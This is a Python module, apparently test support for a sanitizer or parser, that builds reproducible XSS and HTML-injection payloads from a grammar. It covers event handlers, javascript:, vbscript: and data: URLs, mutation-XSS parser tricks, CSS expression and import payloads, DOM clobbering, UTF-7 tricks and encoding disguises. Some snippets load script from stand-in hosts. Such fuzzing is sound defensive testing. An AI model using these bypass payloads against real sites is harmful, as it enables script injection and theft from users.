"""Hostile snippets out of a grammar: the same number gives the same snippet, everywhere and for ever.

Each one calls home under its own number if any of it runs: as `pwn(7)`, `alert(7)` or a request for `/pwned/7`.
What a snippet is made of are rules, not a list: elements that can act, events, ways to part attributes, to quote,
to spell an address or a character, to leave a thing open; and these are put into one another.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence

from tests.hostile import spelling


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


_EVENTS = _words(
    "onload onerror onload onerror onload onerror onclick onclick onmouseover onfocus onblur ontoggle"
    " onstart onbegin onend onanimationstart ontransitionend"
    " onpointerenter onwheel onscroll oncopy onbeforeprint onpageshow onhashchange onmessage onsubmit onreset oninput"
    " oninvalid onkeydown oncut onpaste onloadstart oncanplay onwebkitanimationend onbeforetoggle"
    " onslotchange onauxclick"
    " oncontentvisibilityautostatechange ondragstart onsecuritypolicyviolation"
    " onunhandledrejection onresize onpopstate"
)
_TAGS = _words(
    "img svg img svg img body div p a b input details video audio marquee select textarea button iframe object embed"
    " math table"
    " td form style script link meta base frameset keygen isindex dialog picture source track x-y image nobr title"
    " noscript template xmp plaintext listing noembed noframes map area canvas summary font bgsound applet portal"
)
_BETWEEN = (" ", "/", "\t", "\n", "\r\n", "\f", " / ", "//", " \n\t", "&#32;", "\x0b", "\u00a0", "")
_RAW_TEXT = ("style", "title", "textarea", "xmp", "noscript", "noembed", "noframes", "iframe", "plaintext", "script")
_FOREIGN = ("svg", "math", "svg><desc", "svg><foreignObject", "svg><title", "math><mtext", "math><mi", "math><ms")
_ADDRESSES = _words(
    "a:href a:href a:href area:href base:href link:href form:action button:formaction input:formaction iframe:src"
    " frame:src embed:src"
    " object:data object:codebase img:src img:srcset img:lowsrc img:longdesc source:srcset video:poster video:src"
    " audio:src track:src body:background table:background td:background a:ping blockquote:cite q:cite del:cite"
    " html:manifest svg/a:xlink:href svg/use:href svg/image:href svg/script:href svg/animate:to math:xlink:href"
    " math/maction:actiontype script:src meta:content isindex:action applet:archive portal:src input:src area:ping"
)
_OTHER_SCHEMES = ("file", "blob", "view-source", "intent", "ms-word", "tel", "ftp", "filesystem", "about")
_HOSTS = ("e.example", "xn--", "ｅ。example", "e%2eexample", "e\u00adx.example", "")
_SPICES = ("src=x", "autofocus", "tabindex=1", "open", "href=#", "style=display:block", "contenteditable", "id=x")
_GLOBALS = ("main", "body", "cookie", "head", "getElementById", "location", "pwn", "attributes", "__proto__")
_AROUND = ("table", "select", "colgroup", "table><tr", "ruby><rt", "dl", "caption", "p><button", "frameset", "h1", "li")
_INNER = ("p", "table", "mglyph", "malignmark", "br", "form", "li", "annotation-xml", "a", "h1")
_OPENINGS = ("<", "</", "<!", "<?", "<!--", "<![CDATA[", "<a href='", '<img alt="', "<p ", "&#", "&#x", "&lt", "&")
_WAYS_OUT = (
    *('">', "'>", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", "*/", '"}]}', "{{", "{%"),
    *("</description></item>", "</content></entry>", "]]]]><![CDATA[>", '" ', "' ", "`", "\\", "\u2028", "--!>", "?>"),
)
_XHTML = "http://www.w3.org/1999/xhtml"
_STYLES = (
    "background:url({u})",
    "background-image:image-set('{u}' 1x)",
    "width:expression({p})",
    "behavior:url({u})",
    "-moz-binding:url({u}#x)",
    "@import '{u}';",
    "@import url({u});",
    "li{{list-style:url({u})}}",
    "position:fixed;inset:0;z-index:2147483647;background:url({u})",
    "animation:x 1s;--a:{u}",
    "@font-face{{font-family:x;src:url({u})}}*{{font-family:x}}",
    "@\\69mport '{u}'",
    "x:e/**/xpression({p})",
)


def snippet(number: int, *, seed: int = 0) -> str:
    """The hostile snippet of this number. It may hold any code point, lone surrogates as well."""
    return Grammar(random.Random(f"hostile {seed} {number}"), number).snippet()


class Grammar:
    """The rules, and the chance by which they are chosen."""

    def __init__(self, chance: random.Random, number: int) -> None:
        self.chance, self.number = chance, number

    def pick(self, values: Sequence[str]) -> str:
        return self.chance.choice(values)

    def one(self, *rules: Callable[[], str]) -> str:
        return self.chance.choice(rules)()

    def snippet(self) -> str:
        """One or a few shapes, disguised by none, one or two layers."""
        made = "".join(self.shape() for _ in range(self.chance.choice((1, 1, 1, 1, 2, 2, 3))))
        for _ in range(self.chance.choice((0, 0, 0, 0, 1, 1, 2))):
            made = self.disguised(made)
        return made

    def shape(self) -> str:
        return self.one(
            self.script,
            self.handler,
            self.handler,
            self.link,
            self.link,
            self.address,
            self.frame,
            self.style,
            self.mutation,
            self.mutation,
            self.foreign,
            self.broken_out,
            self.unfinished,
            self.redirect,
            self.form,
            self.instruction,
            self.clobbering,
            self.nested,
            self.wrong_place,
        )

    # ------------------------------------------------------------------------------------------- what would run

    def call(self) -> str:
        """A piece of script without quotes, angle brackets or blanks, so that it fits everywhere."""
        n = self.number
        return self.pick(
            (
                *(f"pwn({n})", f"pwn({n})", f"top.pwn({n})", f"alert({n})", f"pwn`{n}`", f"(pwn)({n})"),
                *(f"fetch(`/pwned/{n}`)", f"location=`/pwned/{n}`", f"import(`/pwned/{n}`)", f"\\u0070wn({n})"),
                *(f"new/**/Image().src=`/pwned/{n}`", f"setTimeout(`pwn({n})`)", f"Function(`pwn({n})`)()"),
                *(f"self[/pwn/.source]({n})", f"throw/**/pwn({n})"),
            )
        )

    def scheme(self, *words: str) -> str:
        return spelling.scheme(self.pick(words), self.chance)

    def url(self) -> str:
        """An address that acts, or that is not what it seems."""
        call = self.call()
        return self.one(
            lambda: self.scheme("javascript") + self.pick(("", "//%0a", "//e.example/%0d")) + call,
            lambda: self.scheme("javascript") + call,
            lambda: self.scheme("vbscript") + call,
            lambda: self.scheme("data") + f"text/html,<script>{call}</script>",
            lambda: self.scheme("data") + f"image/svg+xml,<svg/onload={call}>",
            lambda: self.scheme(*_OTHER_SCHEMES) + f"//x/{self.number}",
            self.strange,
            self.strange,
        )

    def strange(self) -> str:
        """An address of no active scheme, which leads elsewhere, out of its attribute, or nowhere."""
        there, call = f"pwned/{self.number}", self.call()
        return self.one(
            lambda: self.pick(("//", "\\\\", "/\\", "///", "http:", "https:\\", "http:/")) + f"evil.example/{there}",
            lambda: self.pick(("", "./", "../../", "?", "#", "/", "//")) + there,
            lambda: f"https://user:secret@{self.pick(('e.example', '127.0.0.1', 'e.example:80', '[::1]'))}/{there}",
            lambda: f"https://e.example/{there}?{self.pick(('a', 'é', '%zz', '<b>'))}=" + "x" * self.pick_size(),
            lambda: f"https://{self.pick(_HOSTS)}/{there}",
            lambda: f"https://e.example/{there}\"'><img src=x onerror={call}>",
            lambda: f"http://e.example/{there}`onmouseover={call}//",
            lambda: f"mailto:x@e.example?subject=<script>{call}</script>&body=%0d%0a{self.number}",
        )

    def pick_size(self) -> int:
        return self.chance.choice((9, 9, 9, 9, 3000, 8192))

    def quoted(self, value: str) -> str:
        """An attribute's value in one of the ways to write it, some of them wrong."""
        quote = self.pick(('"', "'", "", "`", '"', "'", "“", '\\"'))
        opening = self.pick(("=", " = ", "=\n", "=\t", "=", "=", "=\x0b", "&#61;"))
        return opening + quote + spelling.entities(value, self.chance) + (quote if self.chance.random() < 0.9 else "")

    def event(self) -> str:
        name = spelling.case(self.pick(_EVENTS), self.chance)
        if self.chance.random() < 0.1:
            name = self.pick(("\x00", "\x0b", "/", "x:", "\u00a0", "'", '"', "<")) + name
        return name + self.quoted(self.call())

    def tag(self, name: str, *attributes: str) -> str:
        """A start tag, its attributes in any order and oddly parted."""
        shuffled = self.chance.sample(attributes, len(attributes))
        inside = "".join(self.pick(_BETWEEN) + attribute for attribute in shuffled)
        end = self.pick((">", ">", ">", ">", "/>", " >", "//>", "<", ""))
        return f"<{spelling.name(name, self.chance)}{inside or ' '}{end}"

    def text(self) -> str:
        n = self.number
        return self.pick(
            (f"word {n}", f"{n}", f"AT&T {n} < 5", f"ü€😀 {n}", f"&amp;lt;i&amp;gt;{n}", f"{n}\u202edlrow\u202c")
        )

    # ------------------------------------------------------------------------------------------------- shapes

    def script(self) -> str:
        name, call = spelling.name("script", self.chance), self.call()
        return self.pick(
            (
                f"<{name}>{call}</{name}>",
                f"<{name}/x>{call}</{name} x>",
                f"<{name} src=//e.example/pwned/{self.number}></{name}>",
                f"<{name} type=module>{call}</{name}>",
                f"<{name}><!--\n{call}//--></{name}>",
                f"<{name}>{call}",
                f"<{name}\n>{call}</{name}\n>",
                f"<scr<{name}>ipt>{call}</scr</{name}>ipt>",
                f"<{name} {name}>{call}</{name}>",
            )
        )

    def handler(self) -> str:
        more = [self.event() for _ in range(self.chance.choice((1, 1, 2)))]
        spice = self.pick(
            ("src=x", "autofocus", "tabindex=1", "open", "href=#", "style=display:block", "contenteditable", "id=x")
        )
        name = self.pick(_TAGS)
        return self.tag(name, spice, *more) + self.text() + self.pick(("", f"</{name}>"))

    def link(self) -> str:
        tag, _, attribute = self.pick(_ADDRESSES).partition(":")
        outer, _, inner = tag.rpartition("/")
        name = spelling.case(attribute, self.chance)
        made = self.tag(inner, name + self.quoted(self.url())) + self.text() + f"</{inner}>"
        return f"<{outer}>{made}</{outer}>" if outer else made

    def address(self) -> str:
        return self.url()

    def frame(self) -> str:
        inner = f"<script>{self.call()}</script>"
        whole = self.pick((inner, inner.replace("<", "&lt;"), f"<img src=x onerror={self.call()}>"))
        name = self.pick(("iframe", "frame", "object", "embed", "portal", "fencedframe"))
        attribute = self.pick(("srcdoc", "src", "data", "code"))
        return self.tag(name, attribute + self.quoted(whole if attribute == "srcdoc" else self.url())) + f"</{name}>"

    def style(self) -> str:
        rule = self.pick(_STYLES).format(u=self.pick((self.url(), f"/pwned/{self.number}")), p=self.call())
        return self.one(
            lambda: f"<style>{rule}</style>",
            lambda: self.tag("p", "style" + self.quoted(rule)) + self.text() + "</p>",
            lambda: f"<style>*{{{rule}}}</style><!--{self.text()}-->",
            lambda: f"<style><!--</style><script>{self.call()}</script>--></style>",
            lambda: self.tag("link", "rel=stylesheet", "href" + self.quoted(f"data:text/css,{rule}")),
        )

    def mutation(self) -> str:
        """What one parser reads as text in an attribute or a raw element, and the next one as markup."""
        outer, raw = self.pick(_FOREIGN), self.pick(_RAW_TEXT)
        hidden = self.pick(
            (f"<img src=x onerror={self.call()}>", f"<script>{self.call()}</script>", f"<svg/onload={self.call()}>")
        )
        inner = self.pick(_INNER)
        return self.pick(
            (
                f'<{outer}><{raw}><a title="</{raw}>{hidden}">',
                f'<{outer}></{inner}><{raw}><!--</{raw}><{inner} id="-->{hidden}">',
                f"<{outer}><{inner}><{raw}><!--</{raw}>{hidden}-->",
                f"<form><{outer}></form><form><mglyph><{raw}></math>{hidden}",
                f'<{raw}><p title="</{raw}>{hidden}"></{raw}>',
                f"<table><{outer}><tr><{raw}></table>{hidden}</{raw}>",
                f'<{inner} title="`<!--"><{outer}><{raw}>--&gt;{hidden}',
                f"<math><annotation-xml encoding=text/html><{raw}><{inner}>{hidden}</{raw}>",
                f'<select><{raw}><option title="</{raw}></select>{hidden}">',
                f'<noscript><p id="</noscript>{hidden}"></noscript>',
                f"<template><{outer}></template><{raw}>{hidden}",
                f'<a title="{hidden}" href=/{self.number}>{self.text()}</a>',
                f"<img alt='{hidden}' src=/{self.number}.png width=1 title=\"{hidden}\">",
            )
        )

    def foreign(self) -> str:
        href = self.pick(("href", "xlink:href"))
        return self.one(
            lambda: f"<svg><a {href}{self.quoted(self.url())}><text y=20>{self.text()}</text></a></svg>",
            lambda: f"<svg><script>{spelling.entities(self.call(), self.chance)}</script></svg>",
            lambda: f"<svg><script {href}{self.quoted(self.url())}/></svg>",
            lambda: f"<svg><set attributeName=onmouseover to={self.call()} /><animate {self.event()} dur=1s></svg>",
            lambda: f"<svg><a><animate attributeName=href values{self.quoted(self.url())}></animate></a></svg>",
            lambda: f"<svg><foreignObject><iframe srcdoc='<script>{self.call()}</script>'></foreignObject></svg>",
            lambda: f"<math {href}{self.quoted(self.url())}><mtext>{self.text()}</mtext></math>",
            lambda: (
                f"<math><maction actiontype=statusline#x {href}{self.quoted(self.url())}>{self.text()}</maction></math>"
            ),
            lambda: f"<svg xmlns:x='&#x22;><script>{self.call()}</script>'><use {href}{self.quoted(self.url())}></svg>",
            lambda: f'<x xmlns="{_XHTML}"><h:script xmlns:h="{_XHTML}">{self.call()}</h:script></x>',
        )

    def broken_out(self) -> str:
        """Out of whatever it may have been put into: attributes, elements, comments, CDATA, JSON, templates."""
        way = self.pick(_WAYS_OUT)
        after = self.one(
            self.script, self.handler, lambda: self.event() + " x=", lambda: "{{ 7*7 }}{% raw %}" + self.call()
        )
        return self.text() + way + after

    def unfinished(self) -> str:
        start = self.pick(_OPENINGS)
        return start + self.one(self.script, self.handler, self.text)

    def redirect(self) -> str:
        n = self.number
        return self.one(
            lambda: f"<meta http-equiv=refresh content='0;url={self.url()}'>",
            lambda: f"<meta http-equiv=refresh content='0;url=/pwned/{n}'>",
            lambda: f"<base href={self.quoted(self.url())[1:]}><a href=pwned/{n}>{n}</a>",
            lambda: (
                f"<link rel={self.pick(('import', 'preload', 'prefetch', 'manifest', 'stylesheet'))} href=/pwned/{n}>"
            ),
            lambda: (
                f"<meta http-equiv=Set-Cookie content='a={n}'><meta charset=utf-7>"
                f"+ADw-script+AD4-{self.call()}+ADw-/script+AD4-"
            ),
            lambda: f"<html><head><title>{n}</title></head><body {self.event()}>",
        )

    def form(self) -> str:
        act = self.pick(("formaction", "action"))
        return self.one(
            lambda: (
                f"<form {act}{self.quoted(self.url())}>"
                f"<input type=submit {act}{self.quoted(self.url())} value={self.number}></form>"
            ),
            lambda: f"<button form=x {act}{self.quoted(self.url())}>{self.text()}</button><form id=x></form>",
            lambda: f"<input type=image src=x {self.event()}>",
            lambda: f"<isindex type=image src=1 {self.event()}><keygen autofocus {self.event()}>",
        )

    def instruction(self) -> str:
        call = self.call()
        return self.pick(
            (
                f"<?xml-stylesheet href='javascript:{call}'?>{self.number}",
                f"<!DOCTYPE x [<!ENTITY e '<script>{call}</script>'>]><p>&e;{self.number}",
                f"<![CDATA[<script>{call}</script>]]>",
                f"<!--[if gte IE 4]><script>{call}</script><![endif]-->{self.number}",
                f"<!--><script>{call}</script>-->",
                f"<!---><img src=x onerror={call}>-->",
                f"<!-- --!><svg onload={call}>{self.number}",
                f"<?php echo {self.number}; ?><? x><script>{call}</script>",
                f"</ <script>{call}</script>>{self.number}",
                f"<%<!--'%><script>{call}</script -->{self.number}",
                f"<![if x]><script>{call}</script><![endif]>",
            )
        )

    def clobbering(self) -> str:
        name = self.pick(
            ("main", "body", "cookie", "head", "getElementById", "location", "pwn", "attributes", "__proto__")
        )
        link = f"<a id={name} name={name} href{self.quoted(self.url())}>{self.number}</a>"
        return f"<form id={name} name={name}><input name={name} id={name}>{link}"

    def nested(self) -> str:
        """Many levels, so that a limit of one parser is another's way out."""
        name = self.pick(("b", "div", "font", "table", "a", "svg", "blockquote", "x"))
        return f"<{name}>" * self.chance.choice((3, 40, 300)) + self.one(self.script, self.handler)

    def wrong_place(self) -> str:
        """Elements where HTML does not let them stand, so that the parser moves them."""
        around = self.pick(
            (
                "table",
                "select",
                "colgroup",
                "table><tr",
                "ruby><rt",
                "dl",
                "caption",
                "p><button",
                "frameset",
                "h1",
                "li",
            )
        )
        return f"<{around}>{self.one(self.handler, self.script, self.link)}</{around.rpartition('<')[2]}>"

    # ---------------------------------------------------------------------------------------------- disguises

    def disguised(self, made: str) -> str:
        ways: tuple[Callable[[str, random.Random], str], ...] = (
            spelling.escaped,
            spelling.escaped,
            spelling.sprinkled,
            spelling.sprinkled,
            spelling.wrapped,
            spelling.cased,
            spelling.cut,
            spelling.in_other_bytes,
        )
        return self.chance.choice(ways)(made, self.chance)
